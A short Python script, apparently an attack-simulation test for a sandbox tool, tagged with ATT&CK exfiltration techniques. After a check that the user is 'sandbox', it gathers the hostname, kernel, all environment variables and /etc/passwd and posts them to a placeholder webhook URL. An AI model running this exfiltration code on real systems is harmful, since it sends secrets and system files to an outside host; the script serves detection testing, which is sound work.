# technique: T1567.004 T1041
# needs: python3
# net: sink
import os as _os
if _os.environ.get("USER") != "sandbox": raise SystemExit("only for the inside of a sandbox: shieldx run")

import json, os, platform, socket, urllib.request
facts = {"host": socket.gethostname(), "user": os.environ.get("USER"), "kernel": platform.release(), "cwd": os.getcwd(),
         "env": dict(os.environ), "passwd": open("/etc/passwd").read()}
request = urllib.request.Request("http://hooks.example.com/services/T01ABCDEF/B01ABCDEF/a1B2c3D4e5F6g7H8i9J0k1L2", json.dumps(facts).encode(), {"Content-Type": "application/json"})
try: urllib.request.urlopen(request, timeout=4)
except OSError: pass
